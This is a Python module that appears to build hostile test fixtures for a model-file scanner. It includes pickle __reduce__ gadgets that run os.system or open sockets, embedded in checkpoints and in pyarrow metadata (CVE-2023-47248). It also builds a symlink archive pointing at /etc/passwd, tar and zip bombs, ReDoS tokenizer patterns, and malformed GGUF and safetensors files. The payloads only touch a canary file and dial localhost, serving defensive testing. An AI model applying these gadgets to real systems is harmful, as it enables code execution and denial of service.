"""How the files of hostile.py are made, each by a few lines."""

import io
import json
import os
import pickle
import socket
import struct
import tarfile
import zipfile
import zlib

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

CANARY = "canary-of-the-screens"  # appears in the current folder when a payload runs
PORT = 9  # nobody listens; the attempt itself is what a watcher sees


class Shell:
    def __reduce__(self):
        return os.system, (f"touch {CANARY}",)


class Dial:
    def __reduce__(self):
        return socket.create_connection, (("127.0.0.1", PORT), 1)


class Write:
    def __reduce__(self):
        return open, (CANARY, "w")


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zipped_twice(name: str, first: bytes, second: bytes) -> bytes:
    """Two members under one name, written by patching, for zipfile warns of it."""
    other = name[:-1] + "~"
    return zipped({name: first, other: second}).replace(other.encode(), name.encode())


def zipped_link() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link.txt")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def tarred(members: dict[str, bytes], **changes: object) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            for key, value in changes.items():
                setattr(info, key, value)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def sparse_tar() -> bytes:
    """A file of a terabyte that is all hole: the old GNU form, written by hand."""
    info = tarfile.TarInfo("hole.txt")
    info.type = tarfile.GNUTYPE_SPARSE
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    header[386:398] = b"00000000000\0"  # one piece at 0 ...
    header[398:410] = b"00000000000\0"  # ... of no bytes
    header[483:495] = tarfile.itn(1 << 40, 12, tarfile.GNU_FORMAT)
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return bytes(header) + b"\0" * 1024


def many_members(count: int) -> bytes:
    return zipped({f"{number}": b"" for number in range(count)})


def npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def npy_with(header: bytes, data: bytes = b"") -> bytes:
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def parquet(table: pa.Table, **options: object) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(table, buffer, **options)
    return buffer.getvalue()


def arrow(table: pa.Table) -> bytes:
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, table.schema) as writer:
        writer.write_table(table)
    return sink.getvalue().to_pybytes()


def nested_steps(depth: int) -> bytes:
    """A pattern that does not end, below steps in steps."""
    step: dict[str, object] = {"type": "Split", "pattern": {"Regex": "(a+)+b"}, "behavior": "Isolated", "invert": False}
    for _ in range(depth):
        step = {"type": "Sequence", "pretokenizers": [step]}
    model = {"type": "BPE", "vocab": {"a": 0}, "merges": []}
    return json.dumps({"version": "1.0", "added_tokens": [], "pre_tokenizer": step, "model": model}).encode()


def python_typed() -> pa.Table:
    """A column of the type that old versions of pyarrow unpickle while they open a file (CVE-2023-47248)."""
    metadata = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": pickle.dumps(Shell())}
    return pa.table([pa.array([b"x"])], schema=pa.schema([pa.field("x", pa.binary(), metadata=metadata)]))


def repeated() -> pa.Table:
    """One row that repeats a text of 4 MiB two thousand times: a small file, 8 GB to read."""
    letters = pa.array(["a" * (4 << 20)])
    once = pa.DictionaryArray.from_arrays(pa.array(np.zeros(2000, np.int32)), letters)
    return pa.table({"x": pa.ListArray.from_arrays(pa.array([0, 2000], pa.int32()), once)})


def safetensors(header: object, data: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def tensor(start: int, stop: int, dtype: str = "F32", shape: list[int] | None = None) -> dict[str, object]:
    return {"dtype": dtype, "shape": [(stop - start) // 4] if shape is None else shape, "data_offsets": [start, stop]}


def text(value: str | bytes) -> bytes:
    data = value.encode() if isinstance(value, str) else value
    return struct.pack("<Q", len(data)) + data


def pair(key: str, value: str) -> bytes:
    return text(key) + struct.pack("<I", 8) + text(value)


def described(name: str, offset: int, shape: tuple[int, ...] = (8,), kind: int = 0) -> bytes:
    return text(name) + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, kind, offset)


def gguf(
    pairs: list[bytes] | None = None,
    tensors: list[bytes] | None = None,
    data: bytes = b"\0" * 32,
    *,
    version: int = 3,
    counts: tuple[int, int] | None = None,
) -> bytes:
    pairs = [pair("general.architecture", "llama")] if pairs is None else pairs
    tensors = [described("w", 0)] if tensors is None else tensors
    stated = counts or (len(tensors), len(pairs))
    head = b"GGUF" + struct.pack("<IQQ", version, *stated) + b"".join(pairs) + b"".join(tensors)
    return head + b"\0" * (-len(head) % 32) + data


ARCHITECTURE = pair("general.architecture", "llama")


def tokenizer(**changes: object) -> bytes:
    base = {
        "version": "1.0",
        "added_tokens": [],
        "normalizer": None,
        "model": {"type": "BPE", "vocab": {"a": 0, "b": 1}, "merges": []},
    }
    return json.dumps({**base, **changes}).encode()


def split(pattern: str) -> bytes:
    return tokenizer(
        pre_tokenizer={"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}
    )


def config(**values: object) -> bytes:
    return json.dumps({"model_type": "llama", **values}).encode()


def templated(template: str) -> bytes:
    return json.dumps({"chat_template": template}).encode()


def notebook(**data: str) -> bytes:
    output = {"output_type": "display_data", "data": {kind.replace("_", "/"): value for kind, value in data.items()}}
    cell = {"cell_type": "code", "source": ["import math"], "metadata": {}, "outputs": [output]}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def png(extra: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + extra


SHELL = pickle.dumps(Shell(), 4)
CHECKPOINT = {"archive/data.pkl": pickle.dumps(Shell(), 2), "archive/data/0": b"\0" * 64, "archive/version": b"3\n"}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
LAMBDA = b'{"class_name": "Model", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}'
LOOP = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
U8 = b'"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}'
GPT2 = r"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"
O200K = (
    r"[^\r\n\p{L}\p{N}]?[\p{Lu}\p{Lt}\p{Lm}\p{Lo}\p{M}]*[\p{Ll}\p{Lm}\p{Lo}\p{M}]+(?i:'s|'t|'re|'ve|'m|'ll|'d)?"
    r"|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n/]*|\s*[\r\n]+|\s+(?!\S)|\s+"
)
